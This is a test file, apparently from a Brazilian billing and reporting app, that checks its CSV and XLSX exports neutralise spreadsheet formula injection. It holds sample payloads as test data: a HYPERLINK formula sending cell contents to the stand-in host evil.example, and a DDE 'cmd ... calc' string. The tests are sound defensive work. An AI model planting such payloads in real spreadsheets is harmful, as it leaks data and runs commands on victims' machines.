import { describe, expect, it } from 'vitest';
import { faturaCsv } from '../../runtime/server/routes/FinanceiroWhiteLabel/cobranca.ts';
import type { ReportPlan } from '../../runtime/server/services/reports/reportPlan.ts';
import { createXlsxWriter } from '../../runtime/server/services/reports/writeReportXlsx.ts';
import { readXlsx } from '../support/reportFiles.ts';

/** Issue 12, finding 10: text cells that would start a formula are neutralised in every CSV and XLSX. */
const ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"Clique")';

describe('CSV of a fatura (cobranças)', () => {
  it('neutralises a company name that starts a formula and keeps negative amounts as numbers', () => {
    const csv = faturaCsv([
      {
        empresaId: 1,
        empresaNome: ATTACK,
        cpfCnpj: '@SUM(1)',
        planoNome: '+Plano',
        valorPlano: -10,
        modulos: [],
        valor: -10,
      },
    ]);
    const line = csv.split('\r\n')[1] as string;
    expect(line.startsWith(`"'=HYPERLINK(`)).toBe(true);
    expect(line).toContain(";'@SUM(1);'+Plano;-10,00;");
    expect(csv).not.toMatch(/(^|;)=HYPERLINK/m);
  });
});

describe('XLSX report', () => {
  it('writes text cells that start a formula as plain text with a leading apostrophe; numbers stay numbers', async () => {
    const plan: ReportPlan = {
      relatorioId: 1,
      formato: 'xlsx',
      title: 'Pessoas',
      orientation: 'portrait',
      filters: [{ label: 'Nome', value: '-2+3+cmd|" /C calc"!A0' }],
      columns: [
        { key: 'nome', alias: 'nome', label: 'Nome', format: 'text', align: 'left', width: 30 },
        { key: 'saldo', alias: 'saldo', label: 'Saldo', format: 'money', align: 'right', width: 12 },
      ],
      groups: [],
      sql: '',
      params: [],
      tenant: { empresaId: 1, filialId: null, usuarioId: 1 },
    };
    const writer = createXlsxWriter(plan, {
      empresa: '@Empresa',
      cnpj: '',
      usuario: 'demo',
      geradoEm: new Date('2026-11-24T12:00:00Z'),
    });
    writer.sink.row([ATTACK, -15.5]);
    writer.sink.row(['Cliente comum', 20]);
    const sheet = await readXlsx(await writer.finish());
    const values: unknown[] = [];
    sheet.eachRow((row) => row.eachCell((cell) => values.push(cell.value)));
    expect(values).toContain(`'${ATTACK}`);
    expect(values).toContain("'@Empresa");
    expect(values.some((value) => typeof value === 'string' && value.startsWith('Filtros: Nome: -2+3'))).toBe(
      true,
    );
    expect(values).toContain(-15.5);
    expect(values).toContain('Cliente comum');
    expect(values.some((value) => typeof value === 'object' && value !== null && 'formula' in value)).toBe(
      false,
    );
    expect(values).not.toContain(ATTACK);
  });
});
